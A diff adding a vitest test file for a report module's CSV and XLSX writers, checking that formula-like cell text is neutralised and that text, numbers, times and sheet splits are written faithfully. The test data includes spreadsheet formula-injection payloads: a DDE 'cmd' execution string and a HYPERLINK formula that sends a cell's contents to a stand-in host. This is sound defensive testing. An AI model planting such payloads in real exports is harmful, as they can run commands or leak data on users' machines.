@@ -1,0 +1,167 @@
+/** H5: files of reports are inert and read back as what was written. */
+import { expect, it } from 'vitest';
+import type { ReportSink } from '../../src/modules/reports/report-files.ts';
+import type { Heading, Row } from '../../src/modules/reports/table-writer.ts';
+import { csvWriter } from '../../src/modules/reports/write-csv.ts';
+import { xlsxWriter } from '../../src/modules/reports/write-xlsx.ts';
+import { readCsv, readXlsx } from './read-files.ts';
+
+const QUOTED = 4;
+const HEADING: Heading = {
+  title: 'Report',
+  facts: [['Made', '=now']],
+  columns: [
+    { title: '=Name', kind: 'text' },
+    { title: 'kWh', kind: 'number' },
+    { title: 'At', kind: 'time' },
+    { title: 'Day', kind: 'day' },
+  ],
+  zone: 'Asia/Kathmandu',
+  rightToLeft: true,
+  isCut: false,
+  factsName: 'About',
+};
+
+function collected(): { sink: ReportSink; bytes(): Uint8Array } {
+  const chunks: Uint8Array[] = [];
+  return {
+    sink: { write: async (bytes) => void chunks.push(bytes) },
+    bytes: () => new Uint8Array(Buffer.concat(chunks)),
+  };
+}
+
+async function csvOf(rows: readonly Row[]): Promise<string[][]> {
+  const { sink, bytes } = collected();
+  const writer = await csvWriter(sink, HEADING);
+  await writer.rows(rows);
+  await writer.end();
+  return readCsv(bytes());
+}
+
+async function xlsxOf(rows: readonly Row[], most?: number) {
+  const { sink, bytes } = collected();
+  const writer = await xlsxWriter(sink, HEADING, most);
+  await writer.rows(rows);
+  await writer.end();
+  return readXlsx(bytes());
+}
+
+const FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠A1',
+  '=HYPERLINK("http://x.test?a="&A1,"ok")',
+  "=cmd|' /C calc'!A0",
+  '-12',
+];
+const TEXTS = [
+  'Pump station',
+  'a,b',
+  'say "so"',
+  'two\r\nlines',
+  'two\nlines',
+  ' blank before and after ',
+  '泵站 1 号',
+  'محطة الضخ',
+  'Насосная',
+  '\u{1f50c} plug',
+  '<b>&amp;</b>',
+  ']]>',
+  '_x0041_',
+  "it's",
+  "'=1+1",
+];
+
+it('CSV says what it covers, then its columns', async () => {
+  expect(await csvOf([])).toEqual([
+    ['Report'],
+    ['Made', "'=now"],
+    [''],
+    ["'=Name", 'kWh', 'At', 'Day'],
+  ]);
+});
+
+it.each(FORMULAS)('%j is no formula in CSV, and is there', async (text) => {
+  const cell = (await csvOf([[text, null, null, null]]))[4]![0]!;
+  expect(cell).toBe(`'${text}`);
+});
+
+it.each(FORMULAS)('%j is quoted text in XLSX, letter for letter', async (text) => {
+  const book = await xlsxOf([[text, null, null, null]]);
+  expect(book.sheets[1]!.rows[1]![0]).toEqual({ value: text, style: QUOTED });
+  expect(book.sheets[1]!.xml).not.toContain('<f');
+});
+
+it.each(TEXTS)('%j is read back as it was', async (text) => {
+  expect((await csvOf([[text, null, null, null]]))[4]![0]).toBe(text);
+  const book = await xlsxOf([[text, null, null, null]]);
+  expect(book.sheets[1]!.rows[1]![0]).toEqual({ value: text, style: 0 });
+});
+
+it.each([
+  ['a\0b', 'ab'],
+  ['\0=1', "'=1"],
+  ['half \ud800', 'half \ufffd'],
+])('%j is written as %j', async (text, written) => {
+  expect((await csvOf([[text, null, null, null]]))[4]![0]).toBe(written);
+  const cell = (await xlsxOf([[text, null, null, null]])).sheets[1]!.rows[1]![0]!;
+  expect(cell.value).toBe(written.replace(/^'/, ''));
+});
+
+it.each([
+  [-12.5, '-12.5'],
+  [0, '0'],
+  ['-0.003', '-0.003'],
+  ['230.1', '230.1'],
+  ['1e-07', '1e-07'],
+  [Number.NaN, ''],
+  ['NaN', ''],
+  ['Infinity', ''],
+  ['=1', ''],
+  ['', ''],
+  [null, ''],
+])('the number %j is a number, and nothing else is', async (value, text) => {
+  expect((await csvOf([['x', value, null, null]]))[4]![1]).toBe(text);
+  const cell = (await xlsxOf([['x', value, null, null]])).sheets[1]!.rows[1]![1]!;
+  expect(cell).toEqual({ value: text === '' ? null : Number(text), style: 0 });
+});
+
+it('times are local and days are days, in both', async () => {
+  const at = Date.UTC(2026, 10, 1, 18, 14, 59);
+  const row: Row = ['x', 1, at, '2026-11-02'];
+  expect((await csvOf([row]))[4]!.slice(2)).toEqual(['2026-11-01 23:59:59', '2026-11-02']);
+  const cells = (await xlsxOf([row])).sheets[1]!.rows[1]!;
+  // Days since 1899-12-30, the way spreadsheets count.
+  const moment = (value: unknown) =>
+    new Date(Date.UTC(1899, 11, 30) + Math.round(Number(value) * 86_400) * 1000).toISOString();
+  expect(moment(cells[2]!.value)).toBe('2026-11-01T23:59:59.000Z');
+  expect(moment(cells[3]!.value)).toBe('2026-11-02T00:00:00.000Z');
+});
+
+it('a sheet that is full is followed by another', async () => {
+  const rows = Array.from({ length: 7 }, (_, i): Row => [`row ${i}`, i, null, null]);
+  const book = await xlsxOf(rows, 4);
+  expect(book.sheets.map(({ name }) => name)).toEqual(['About', 'Report', 'Report 2', 'Report 3']);
+  const values = book.sheets
+    .slice(1)
+    .flatMap(({ rows: all }) => all.slice(1).map((row) => row[1]!.value));
+  expect(values).toEqual([0, 1, 2, 3, 4, 5, 6]);
+  for (const sheet of book.sheets.slice(1)) expect(sheet.rows[0]![0]!.value).toBe('=Name');
+  for (const sheet of book.sheets) expect(sheet.xml).toContain('rightToLeft="1"');
+});
+
+it('the sheet that says the range was cut is shown first', async () => {
+  const { sink, bytes } = collected();
+  await (await xlsxWriter(sink, { ...HEADING, isCut: true })).end();
+  expect(readXlsx(bytes()).active).toBe(0);
+  expect((await xlsxOf([])).active).toBe(1);
+});
